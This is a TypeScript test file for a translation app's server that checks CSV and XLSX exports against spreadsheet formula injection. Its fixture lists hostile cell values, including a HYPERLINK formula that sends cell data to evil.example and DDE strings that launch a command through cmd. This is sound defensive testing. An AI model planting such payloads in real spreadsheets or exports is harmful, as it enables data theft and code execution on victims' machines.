import { strFromU8 } from "fflate";
import { describe, expect, it } from "vitest";
import { contract } from "../../src/shared/contract/index.ts";
import { type ApiClient, apiAppForThisFile } from "../helpers/api-app.ts";
import { call } from "../helpers/contract-client.ts";
import { buildKey, ownerWithProject } from "../helpers/factories.ts";
import { exportFiles, upload } from "../helpers/transfer.ts";

/**
 * Formula injection through the server (issue 32 asks that each attack category of the review keep
 * a test through the server): strings a spreadsheet would run are stored by anyone who may edit,
 * exported as CSV or XLSX by someone else, and opened in a spreadsheet. No cell of the export may
 * start with a formula trigger in any common CSV dialect (`,`, `;`, tab, or lines cut without
 * regard to quotes), no XLSX cell is a formula, and importing the export gives every string back.
 */
const api = apiAppForThisFile();

const HOSTILE: Record<string, string> = {
  hyperlink: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  dde: "+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3",
  semicolon: "x;=1+1",
  tab: "a\t-1",
  carriage: "\r=1+1",
  newline: "first line\n=2+2",
  fullwidth: "＝1+1",
  quoted: "'=already escaped",
  comma: "a,=1+1",
};
const TRIGGER = /^[=+\-@\t\r＝＋－＠]/;

async function projectWithHostileStrings() {
  const setup = await ownerWithProject(api(), ["de"]);
  for (const [key, value] of Object.entries(HOSTILE)) {
    await buildKey(setup.owner, setup.projectId, key, { source: value });
  }
  return setup;
}

async function valuesOf(projectId: string, owner: ApiClient) {
  const keys = await call(owner, contract.keys.list, { params: { projectId }, query: {} });
  return Object.fromEntries(keys.body.keys.map((key) => [key.key, key.strings.en?.value]));
}

describe("formula injection in exports", () => {
  it("writes no CSV field that starts a formula in any dialect, and reads every string back", async () => {
    const { owner, projectId } = await projectWithHostileStrings();
    const files = await exportFiles(owner, projectId, { languages: ["en"], format: "csv" });
    const csv = strFromU8(files["translations.csv"] ?? new Uint8Array());
    expect(csv).toContain('"x;\'=1+1"');
    const fields = csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(/[,;\t]/));
    const dangerous = fields.map((field) => field.replace(/^"/, "")).filter((field) => TRIGGER.test(field));
    expect(dangerous).toEqual([]);

    const fresh = await ownerWithProject(api(), ["de"]);
    const imported = await upload(fresh.owner, fresh.projectId, "translations.csv", csv, { language: "en" });
    expect(imported.status).toBe(200);
    expect(await valuesOf(fresh.projectId, fresh.owner)).toEqual(HOSTILE);
  });

  it("writes XLSX cells as text, never formulas, and reads every string back", async () => {
    const { owner, projectId } = await projectWithHostileStrings();
    const files = await exportFiles(owner, projectId, { languages: ["en"], format: "xlsx" });
    const workbook = files["translations.xlsx"];
    expect(workbook).toBeDefined();
    const { unzipSync } = await import("fflate");
    const sheet = strFromU8(
      unzipSync(workbook ?? new Uint8Array())["xl/worksheets/sheet1.xml"] ?? new Uint8Array(),
    );
    expect(sheet).not.toMatch(/<f[ >]/);

    const fresh = await ownerWithProject(api(), ["de"]);
    const imported = await upload(fresh.owner, fresh.projectId, "translations.xlsx", workbook ?? "", {
      language: "en",
    });
    expect(imported.status).toBe(200);
    expect(await valuesOf(fresh.projectId, fresh.owner)).toEqual(HOSTILE);
  });
});
